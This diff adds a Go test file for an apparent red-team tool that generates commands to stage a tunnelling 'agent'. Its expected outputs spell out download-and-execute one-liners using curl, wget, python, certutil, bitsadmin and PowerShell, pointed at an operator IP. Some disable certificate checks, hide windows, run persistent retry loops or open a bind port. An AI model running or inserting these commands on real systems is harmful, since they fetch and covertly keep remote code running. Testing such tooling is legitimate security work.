@@ -0,0 +1,190 @@
+package core
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+func agentTestConfig(t *testing.T) Config {
+	t.Helper()
+	t.Setenv("HOME", t.TempDir())
+	cfg := DefaultConfig()
+	cfg.PublicIP = "10.10.14.2"
+	cfg.FileDirectory = t.TempDir()
+	return cfg
+}
+
+func TestGenerateAgentCommand(t *testing.T) {
+	const (
+		args   = "-connect 10.10.14.2:11601 -ignore-cert"
+		plain  = "http://10.10.14.2:8000/"
+		secure = "https://10.10.14.2:8000/"
+	)
+	tests := []struct {
+		name  string
+		https bool
+		opts  AgentCommandOptions
+		want  string
+	}{
+		{"linux default", false, AgentCommandOptions{OS: "linux"},
+			"./agent " + args},
+		{"linux background", false, AgentCommandOptions{OS: "linux", Run: AgentRunBackground},
+			"nohup ./agent " + args + " >/dev/null 2>&1 &"},
+		{"linux retry", false, AgentCommandOptions{OS: "linux", Run: AgentRunRetry, RetryDelay: 5},
+			"nohup sh -c 'while true; do ./agent " + args + "; sleep 5; done' >/dev/null 2>&1 &"},
+		{"linux curl", false, AgentCommandOptions{OS: "linux", Download: "curl"},
+			"curl -fsSL -o agent " + plain + "agent_linux_amd64 && chmod +x agent && ./agent " + args},
+		{"linux curl https", true, AgentCommandOptions{OS: "linux", Download: "curl"},
+			"curl -fsSL -k -o agent " + secure + "agent_linux_amd64 && chmod +x agent && ./agent " + args},
+		{"linux wget arm64", true, AgentCommandOptions{OS: "linux", Arch: "arm64", Download: "wget"},
+			"wget -q --no-check-certificate -O agent " + secure + "agent_linux_arm64 && chmod +x agent && ./agent " + args},
+		{"linux python", false, AgentCommandOptions{OS: "linux", Download: "python"},
+			"python3 -c 'import sys, urllib.request as u; u.urlretrieve(sys.argv[1], sys.argv[2])' " + plain + "agent_linux_amd64 agent && chmod +x agent && ./agent " + args},
+		{"darwin python https", true, AgentCommandOptions{OS: "darwin", Arch: "arm64", Download: "python"},
+			"python3 -c 'import sys, urllib.request as u, ssl; ssl._create_default_https_context = ssl._create_unverified_context; u.urlretrieve(sys.argv[1], sys.argv[2])' " + secure + "agent_darwin_arm64 agent && chmod +x agent && ./agent " + args},
+		{"windows default", false, AgentCommandOptions{OS: "windows"},
+			`powershell -Command "Start-Process -WindowStyle Hidden -FilePath '.\agent.exe' -ArgumentList '` + args + `'"`},
+		{"windows foreground", false, AgentCommandOptions{OS: "windows", Run: AgentRunForeground},
+			`.\agent.exe ` + args},
+		{"windows retry", false, AgentCommandOptions{OS: "windows", Run: AgentRunRetry},
+			`start /b powershell -WindowStyle Hidden -Command "while ($true) { & '.\agent.exe' ` + args + `; Start-Sleep 10 }"`},
+		{"windows certutil 386", false, AgentCommandOptions{OS: "windows", Arch: "386", Download: "certutil", Run: AgentRunForeground},
+			"certutil -urlcache -split -f " + plain + `agent_windows_386.exe agent.exe && .\agent.exe ` + args},
+		{"windows iwr https", true, AgentCommandOptions{OS: "windows", Download: "iwr", Run: AgentRunForeground},
+			`powershell -Command "` + psSkipVerify + `Invoke-WebRequest -UseBasicParsing -Uri '` + secure + `agent_windows_amd64.exe' -OutFile 'agent.exe'" && .\agent.exe ` + args},
+		{"windows bitsadmin", false, AgentCommandOptions{OS: "windows", Download: "bitsadmin", Run: AgentRunForeground},
+			"bitsadmin /transfer potg /download /priority foreground " + plain + `agent_windows_amd64.exe "%CD%\agent.exe" && .\agent.exe ` + args},
+		{"bind", false, AgentCommandOptions{OS: "linux", Bind: "0.0.0.0:4444"},
+			"./agent -bind 0.0.0.0:4444"},
+		{"escaped source", false, AgentCommandOptions{OS: "linux", Download: "curl", Source: "my tools/agent's"},
+			"curl -fsSL -o agent " + plain + "my%20tools/agent%27s && chmod +x agent && ./agent " + args},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			cfg := agentTestConfig(t)
+			cfg.FileTLS = tt.https
+			got, err := GenerateAgentCommand(cfg, DefaultAgentTemplates(), tt.opts)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if got.Command != tt.want {
+				t.Errorf("command\n got %s\nwant %s", got.Command, tt.want)
+			}
+		})
+	}
+
+	cfg := agentTestConfig(t)
+	bind, _ := GenerateAgentCommand(cfg, DefaultAgentTemplates(), AgentCommandOptions{OS: "linux", Bind: "0.0.0.0:4444"})
+	if bind.Mode != "bind" || bind.ProxyCommand != "connect_agent --ip <target>:4444" {
+		t.Errorf("bind mode = %q, proxy command %q", bind.Mode, bind.ProxyCommand)
+	}
+	for _, opts := range []AgentCommandOptions{
+		{OS: "plan9"},
+		{OS: "linux", Arch: "sparc"},
+		{OS: "linux", Run: "daemon"},
+		{OS: "linux", Download: "certutil"},
+	} {
+		if _, err := GenerateAgentCommand(cfg, DefaultAgentTemplates(), opts); err == nil {
+			t.Errorf("GenerateAgentCommand(%+v) succeeded", opts)
+		}
+	}
+}
+
+func TestGenerateAgentCommandQuotesValues(t *testing.T) {
+	cfg := agentTestConfig(t)
+	cfg.AgentBinary = "my agent"
+	tests := map[string]string{
+		"linux curl":       "curl -fsSL -o 'my agent' http://10.10.14.2:8000/agent_linux_amd64 && chmod +x 'my agent' && ./'my agent' ",
+		"linux retry":      `nohup sh -c 'while true; do ./'\''my agent'\'' `,
+		"windows iwr":      `-OutFile 'my agent.exe'" && powershell -Command "Start-Process -WindowStyle Hidden -FilePath '.\my agent.exe' `,
+		"windows certutil": `agent_windows_amd64.exe "my agent.exe" && ".\my agent.exe" `,
+	}
+	for name, want := range tests {
+		osName, download, _ := strings.Cut(name, " ")
+		opts := AgentCommandOptions{OS: osName}
+		if download == "retry" {
+			opts.Run = AgentRunRetry
+		} else {
+			opts.Download = download
+		}
+		if download == "certutil" {
+			opts.Run = AgentRunForeground
+		}
+		got, err := GenerateAgentCommand(cfg, DefaultAgentTemplates(), opts)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if !strings.Contains(got.Command, want) {
+			t.Errorf("%s: %s\ndoes not contain %s", name, got.Command, want)
+		}
+	}
+}
+
+func TestGenerateAgentCommandLinksOnly(t *testing.T) {
+	cfg := agentTestConfig(t)
+	cfg.FileLinksOnly = true
+	writeTestFile(t, filepath.Join(cfg.FileDirectory, "agent_linux_amd64"), "ELF agent")
+
+	got, err := GenerateAgentCommand(cfg, DefaultAgentTemplates(), AgentCommandOptions{OS: "linux", Download: "curl"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !strings.HasPrefix(got.URL, "http://10.10.14.2:8000/d/") || !strings.Contains(got.Command, got.URL) {
+		t.Errorf("links-only command %q does not use a download link", got.Command)
+	}
+	again, _ := GenerateAgentCommand(cfg, DefaultAgentTemplates(), AgentCommandOptions{OS: "linux", Download: "curl"})
+	if again.URL != got.URL {
+		t.Errorf("regenerating the command minted a new link")
+	}
+	if _, err := GenerateAgentCommand(cfg, DefaultAgentTemplates(), AgentCommandOptions{OS: "linux", Download: "curl", Arch: "arm64"}); err == nil {
+		t.Error("links-only command for an unpublished agent succeeded")
+	}
+	if run, err := GenerateAgentCommand(cfg, DefaultAgentTemplates(), AgentCommandOptions{OS: "linux"}); err != nil || run.URL != "" {
+		t.Errorf("run-only command = %+v, %v", run, err)
+	}
+}
+
+func TestAgentTemplateOverrides(t *testing.T) {
+	cfg := agentTestConfig(t)
+	if err := SaveAgentTemplates(AgentTemplates{"linux": {Run: map[string]string{"foreground": "{{.Nope}}"}}}); err == nil {
+		t.Fatal("saved a template with an unknown field")
+	}
+	err := SaveAgentTemplates(AgentTemplates{"Linux": {
+		Download: map[string]string{"wget": "", "fetch": "fetch -o {{sh .Binary}} {{sh .URL}}"},
+		Run:      map[string]string{"foreground": "exec ./{{sh .Binary}} {{.Args}}"},
+	}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	path, _ := AgentTemplatesPath()
+	if _, err := os.Stat(path); err != nil {
+		t.Fatal(err)
+	}
+
+	tmpl, err := LoadAgentTemplates()
+	if err != nil {
+		t.Fatal(err)
+	}
+	linux := tmpl["linux"]
+	if _, ok := linux.Download["wget"]; ok {
+		t.Error("an empty template did not remove the default")
+	}
+	if _, ok := linux.Download["curl"]; !ok {
+		t.Error("an override dropped an untouched default")
+	}
+	got, err := GenerateAgentCommand(cfg, tmpl, AgentCommandOptions{OS: "linux", Download: "fetch"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if want := "fetch -o agent http://10.10.14.2:8000/agent_linux_amd64 && exec ./agent -connect 10.10.14.2:11601 -ignore-cert"; got.Command != want {
+		t.Errorf("command = %q, want %q", got.Command, want)
+	}
+	if cmd := AgentCmdLinux(cfg); !strings.HasPrefix(cmd, "exec ./agent ") {
+		t.Errorf("AgentCmdLinux ignores the template file: %q", cmd)
+	}
+	if cmd := AgentCmdWindows(cfg); !strings.Contains(cmd, "Start-Process") {
+		t.Errorf("AgentCmdWindows = %q", cmd)
+	}
+}